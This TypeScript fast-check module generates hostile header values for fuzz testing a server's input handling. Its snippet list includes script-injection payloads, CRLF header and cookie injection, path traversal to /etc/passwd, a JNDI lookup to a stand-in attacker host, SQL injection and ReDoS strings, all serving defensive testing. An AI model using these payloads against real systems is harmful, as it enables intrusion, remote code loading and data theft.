/** Texts as strangers send them, each as the bytes of a header in Latin-1. */
import fc, { type Arbitrary } from 'fast-check';

/** Stands in many of them: what holds it was sent by a stranger, and has no place in a log. */
export const MARK = 'zq9mark';

/** UTF-8, as the characters that a server reads it as. */
export const bytes = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');

const SNIPPETS = [
  '',
  ' ',
  '0',
  '-1',
  '1e309',
  'NaN',
  'null',
  'undefined',
  'true',
  '__proto__',
  'constructor',
  'constructor.prototype',
  'hasOwnProperty',
  'toString',
  'then',
  '</script><script>alert(1)</script>',
  '<!--<script>',
  ']]>',
  '"><img src=x onerror=alert(1)>',
  `' onload='alert(1)`,
  '`${7*7}`',
  '{{7*7}}',
  '%0d%0aSet-Cookie:%20evil=1',
  '%0aX-Evil:%201',
  '%00',
  '%c0%af',
  '%E0%A4%A',
  '%25250d%25250a',
  '%u000a',
  '\\r\\nX-Evil: 1',
  '../../../../etc/passwd',
  '..%2f..%2f',
  '${jndi:ldap://evil.example/a}',
  "' OR 1=1 --",
  '(a+)+$',
  `${'a'.repeat(60)}!`,
  '*'.repeat(30),
  '=;,:"()<>@[]{}?/\\',
  MARK,
  `${MARK}=${MARK}; ${MARK}`,
  '\u2028\u2029',
  '\ufeff',
  'ünïcödé',
  '🦆'.repeat(20),
  '\u202eevil',
  '\ud800',
].map(bytes);

/** Without what has no place in a header: of such a head nothing would be read any more. */
export function inHeader(text: string): string {
  return [...text].every(isVisible) ? text : [...text].map((each) => (isVisible(each) ? each : '?')).join('');
}

const isVisible = (character: string): boolean =>
  character === '\t' || (character >= ' ' && character !== '\x7f');

export const snippet: Arbitrary<string> = fc.constantFrom(...SNIPPETS);
const wild = fc.oneof(
  snippet,
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 20 }).map(bytes),
  fc.array(snippet, { minLength: 2, maxLength: 4 }).map((parts) => parts.join('')),
  fc
    .tuple(snippet, fc.integer({ min: 100, max: 6000 }))
    .map(([text, length]) => (text || 'x').repeat(Math.ceil(length / (text.length || 1))).slice(0, length)),
);

/** Mostly one of `usual`, which may be spoilt; now and then anything. */
export function mostly(...usual: (string | Arbitrary<string>)[]): Arbitrary<string> {
  const good = fc.oneof(...usual.map((each) => (typeof each === 'string' ? fc.constant(each) : each)));
  const spoilt = fc
    .tuple(good, snippet, fc.double({ min: 0, max: 1, noNaN: true }), fc.boolean())
    .map(([text, extra, at, cuts]) => {
      const place = Math.floor(at * text.length);
      return text.slice(0, place) + extra + (cuts ? '' : text.slice(place));
    });
  return fc.oneof(
    { weight: 4, arbitrary: good },
    { weight: 3, arbitrary: spoilt },
    { weight: 3, arbitrary: wild },
  );
}

export const json = (value: Arbitrary<unknown>): Arbitrary<string> =>
  value.map((each) => bytes(JSON.stringify(each)));
export const base64 = (text: Arbitrary<string>): Arbitrary<string> =>
  text.map((each) => Buffer.from(each, 'latin1').toString('base64'));
export const encoded = (text: Arbitrary<string>): Arbitrary<string> => text.map((each) => escape(each));

/** Every byte that is no letter or digit as an escape. */
function escape(text: string): string {
  return [...Buffer.from(text, 'latin1')]
    .map((byte) => String.fromCharCode(byte))
    .map((each) => (/[\w.-]/.test(each) ? each : `%${each.charCodeAt(0).toString(16).padStart(2, '0')}`))
    .join('');
}
